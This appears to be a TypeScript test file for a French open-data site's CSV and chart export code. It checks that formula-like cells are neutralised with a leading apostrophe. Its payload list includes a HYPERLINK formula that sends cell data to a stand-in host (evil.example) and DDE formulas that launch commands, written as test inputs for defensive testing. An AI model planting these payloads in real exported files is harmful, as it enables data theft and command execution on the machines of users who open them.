/**
 * CSV/formula injection: every text cell a spreadsheet would evaluate comes out inert (OWASP:
 * leading apostrophe, quoted cell), in the open-data writer and the chart downloads; numbers in a
 * number column stay numbers. The class, not examples: a property test over generated strings.
 */
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { inertCell, isFormulaLike, isFrenchNumber } from '../../src/lib/csv-safety.ts';
import { csvCell, toCsv } from '../../src/lib/csv.ts';
import { parseCsv, toCsv as chartCsv } from '../../src/lib/charts/export.ts';
import { parse } from 'csv-parse/sync';

const PAYLOADS = [
  '=HYPERLINK("http://evil.example/?d="&A1,"Cliquez")',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '   =1+1',
  '"=1+1',
  ' "@SUM(A1)',
  '\u00A0=1',
  '\uFF1D1+1',
];

/** What a spreadsheet would see: the cells after CSV parsing, first significant character. */
const evaluated = (cell: string) => isFormulaLike(cell);

describe('formula-like text is recognised, including after spaces and quotes', () => {
  it.each(PAYLOADS)('%j', (p) => expect(isFormulaLike(p)).toBe(true));
  it.each(['Grenoble', '« +30 % »', 'Plus de 400', "'=déjà neutralisé", '', '2019-2021', 'A=B'])('%j is plain text', (t) =>
    expect(isFormulaLike(t)).toBe(false),
  );
});

describe('open-data CSV (src/lib/csv.ts)', () => {
  it.each(PAYLOADS)('%j comes out inert, quoted, and reads back with its text', (p) => {
    const cell = csvCell(p);
    expect(cell.startsWith(`"'`)).toBe(true);
    const read = (parse(toCsv(['x'], [[p]]), { from_line: 2 }) as string[][])[0]?.[0];
    expect(read).toBe(`'${p}`);
    expect(evaluated(read!)).toBe(false);
  });
  it('a negative number in a number column stays a number', () => {
    expect(csvCell(-12)).toBe('-12');
    expect(csvCell(-0.5)).toBe('-0.5');
    expect(csvCell('-12')).toBe(`"'-12"`);
  });
  it('no generated text ever comes out evaluable', () => {
    fc.assert(
      fc.property(fc.array(fc.string({ unit: 'binary', maxLength: 40 }), { minLength: 1, maxLength: 6 }), (cells) => {
        const rows = parse(
          toCsv(
            cells.map((_, i) => `c${i}`),
            [cells],
          ),
          { from_line: 2, relax_quotes: true },
        ) as string[][];
        for (const cell of rows[0] ?? []) expect(evaluated(cell), JSON.stringify(cell)).toBe(false);
      }),
      { seed: 11, numRuns: 300 },
    );
  });
});

describe('chart downloads (src/lib/charts/export.ts)', () => {
  const table = (cells: string[], numeric: boolean[]) => ({
    columns: cells.map((_, i) => ({ label: `col${i}`, numeric: numeric[i] ?? false })),
    rows: [{ key: 'r', cells }],
  });
  it('text columns are neutralised, French numbers in numeric columns kept', () => {
    const rows = parseCsv(
      chartCsv(table(['=1+1', '-3,5', '−12', '1\u202F234', '12\u00A0%', '-1+1'], [false, true, true, true, true, true])),
    );
    expect(rows[1]).toEqual(["'=1+1", '-3,5', '−12', '1\u202F234', '12\u00A0%', "'-1+1"]);
  });
  it('a chart label that looks like a formula is inert too', () => {
    const rows = parseCsv(chartCsv({ columns: [{ label: '@SUM(A1)', numeric: false }], rows: [] }));
    expect(rows[0]).toEqual(["'@SUM(A1)"]);
  });
  it('no generated cell ever comes out evaluable, whatever the column type', () => {
    fc.assert(
      fc.property(
        fc.array(fc.tuple(fc.string({ unit: 'binary', maxLength: 30 }), fc.boolean()), { minLength: 1, maxLength: 5 }),
        (cols) => {
          const rows = parseCsv(
            chartCsv(
              table(
                cols.map((c) => c[0]),
                cols.map((c) => c[1]),
              ),
            ),
          );
          for (const cell of rows[1] ?? []) if (!isFrenchNumber(cell)) expect(evaluated(cell), JSON.stringify(cell)).toBe(false);
        },
      ),
      { seed: 11, numRuns: 300 },
    );
  });
  it('inertCell leaves ordinary text unchanged', () => expect(inertCell('Grenoble-Alpes')).toBe('Grenoble-Alpes'));
});
